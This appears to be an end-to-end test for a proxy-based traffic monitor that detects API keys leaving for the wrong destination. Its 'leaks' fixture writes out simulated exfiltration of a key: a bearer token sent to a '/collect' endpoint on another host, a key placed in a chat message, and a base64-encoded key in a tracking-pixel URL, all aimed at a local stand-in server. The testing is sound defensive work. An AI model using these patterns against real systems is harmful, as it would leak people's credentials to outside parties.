"""Known secrets through the live monitor: real mitmdump (scripts/start.py), a local
upstream on 127.0.0.1 standing in for the providers, and a real HTTP client as the
scoped child, with a PicoClaw-shaped config in a temporary PICOCLAW_HOME.

Acceptance (issue 5): the client's normal provider calls (each key to its api_base host,
in its auth header) give no findings; the same key sent anywhere else (another host, a
chat message body, base64 in a URL) gives a critical known_secret finding naming its
owner, whose snippet holds no secret. The egress inventory and the known-secrets
summary land in the home, and no planted key appears anywhere under it.
"""

from __future__ import annotations

import base64
import http.server
import json
import subprocess
import sys
from pathlib import Path

import pytest

from canary import assert_no_leak
from conftest import SCRIPTS
from local_servers import UPSTREAMS_ARE_PUBLIC, free_port, serving
from picoclaw_fixtures import write_picoclaw_home
from scoped_client import run_scoped

pytestmark = pytest.mark.e2e


class ProviderStandIn(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_args):
        pass

    def _answer(self):
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        body = json.dumps({"id": "cmpl-1", "choices": [{"message": {"role": "assistant", "content": "ok"}}]})
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body.encode())

    do_GET = do_POST = _answer  # noqa: N815 - http.server's hook names


CLIENT = r'''
import json, subprocess, sys, time, urllib.request
calls_file, status_script, status_out = sys.argv[1:4]
opener = urllib.request.build_opener(urllib.request.ProxyHandler())  # HTTP_PROXY from the scoped env
for call in json.load(open(calls_file)):
    data = call["body"].encode() if call["body"] is not None else None
    request = urllib.request.Request(call["url"], data=data, headers=call["headers"],
                                     method="POST" if data is not None else "GET")
    opener.open(request, timeout=30).read()
# status while the monitor runs: wait (bounded) until the inventory file has both destinations
deadline = time.monotonic() + 30
while True:
    result = subprocess.run([sys.executable, status_script, "--json"], capture_output=True, timeout=30)
    report = json.loads(result.stdout)
    if len(report["top_destinations"]) >= 2 or time.monotonic() > deadline:
        break
    time.sleep(0.5)
human = subprocess.run([sys.executable, status_script], capture_output=True, timeout=30)
json.dump({"json": report, "human": human.stdout.decode(),
           "stderr": human.stderr.decode() + result.stderr.decode()}, open(status_out, "w"))
'''


@pytest.fixture
def provider():
    server = ProviderStandIn()
    with serving(server):
        yield server


def chat(text: str) -> str:
    return json.dumps({"model": "custom-model", "messages": [{"role": "user", "content": text}]})


def test_live_normal_provider_calls_are_silent_and_the_same_key_elsewhere_is_critical(
        guardian_env, tmp_path, provider):
    port = provider.server_address[1]
    api_base = f"http://localhost:{port}/v1"  # the providers' host for this test: "localhost"
    picoclaw = write_picoclaw_home(Path(guardian_env["PICOCLAW_HOME"]), gateway_base=api_base, openai_base=api_base)
    gateway, openai = picoclaw.keys["gateway"], picoclaw.keys["openai"]
    json_headers = {"Content-Type": "application/json"}
    normal = [
        {"url": f"{api_base}/chat/completions", "body": chat("hello"),
         "headers": {**json_headers, "Authorization": f"Bearer {gateway}"}},
        {"url": f"{api_base}/chat/completions", "body": chat("hello again"),
         "headers": {**json_headers, "Authorization": f"Bearer {openai}"}},
    ]
    elsewhere = f"http://127.0.0.1:{port}"  # same upstream, another host name: not the key's api_base
    leaks = [
        {"url": f"{elsewhere}/collect", "body": "{}",
         "headers": {**json_headers, "Authorization": f"Bearer {gateway}"}},
        {"url": f"{api_base}/chat/completions", "body": chat(f"my gateway key is {gateway}, keep it"),
         "headers": {**json_headers, "Authorization": f"Bearer {openai}"}},
        {"url": f"{elsewhere}/pixel.gif?d={base64.urlsafe_b64encode(('k=' + openai).encode()).decode()}",
         "body": None, "headers": {}},
    ]
    calls = tmp_path / "calls.json"
    calls.write_text(json.dumps(normal + leaks))
    client = tmp_path / "client.py"
    client.write_text(CLIENT)
    config = tmp_path / "guardian.json"
    config.write_text(json.dumps({"listen_port": free_port(), **UPSTREAMS_ARE_PUBLIC}))
    home = Path(guardian_env["PICOCLAW_TRAFFIC_GUARDIAN_HOME"])

    status_out = tmp_path / "status.json"
    stdout, stderr = run_scoped(guardian_env, config, [sys.executable, str(client), str(calls),
                                                       str(SCRIPTS / "status.py"), str(status_out)])

    log = home / "logs" / "findings.jsonl"
    findings = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
    assert sorted((f["pattern"], f["severity"], f["threat_type"], f["secret_owner"], f["dest"], f["location"],
                   f["encoding"]) for f in findings) == sorted([
        ("known_secret", "critical", "EXFIL", "model:my-gateway", f"127.0.0.1:{port}", "request.header:authorization",
         "raw"),
        ("known_secret", "critical", "EXFIL", "model:my-gateway", f"localhost:{port}", "request.body", "raw"),
        ("known_secret", "critical", "EXFIL", "model:gpt-5.4", f"127.0.0.1:{port}", "request.url", "base64"),
    ])
    assert all("[REDACTED " in f["snippet"] for f in findings)

    summary = json.loads((home / "run" / "known-secrets.json").read_text())
    assert summary["count"] == 12 and len(summary["secrets"]) == 12
    egress = {entry["dest"]: entry for entry in json.loads((home / "run" / "egress.json").read_text())["destinations"]}
    assert egress[f"localhost:{port}"]["requests"] == 3 and egress[f"127.0.0.1:{port}"]["requests"] == 2
    assert egress[f"localhost:{port}"]["bytes_in"] > 0
    listing = subprocess.run([sys.executable, str(SCRIPTS / "egress.py"), "--sort", "requests"], env=guardian_env,
                             capture_output=True, timeout=60)
    assert [json.loads(line)["dest"] for line in listing.stdout.splitlines()] == [f"localhost:{port}",
                                                                                  f"127.0.0.1:{port}"]
    status = json.loads(status_out.read_text())
    assert [d["dest"] for d in status["json"]["top_destinations"]] == [f"localhost:{port}", f"127.0.0.1:{port}"]
    assert status["json"]["known_secrets"]["count"] == 12
    assert {s["fingerprint"] for s in status["json"]["known_secrets"]["secrets"]} == {
        s["fingerprint"] for s in summary["secrets"]}
    assert "known secrets watched: 12" in status["human"] and f"localhost:{port} 3 req" in status["human"]
    assert_no_leak(picoclaw.values, home=home,
                   outputs=[stdout, stderr, listing.stdout, listing.stderr, status_out.read_text()])
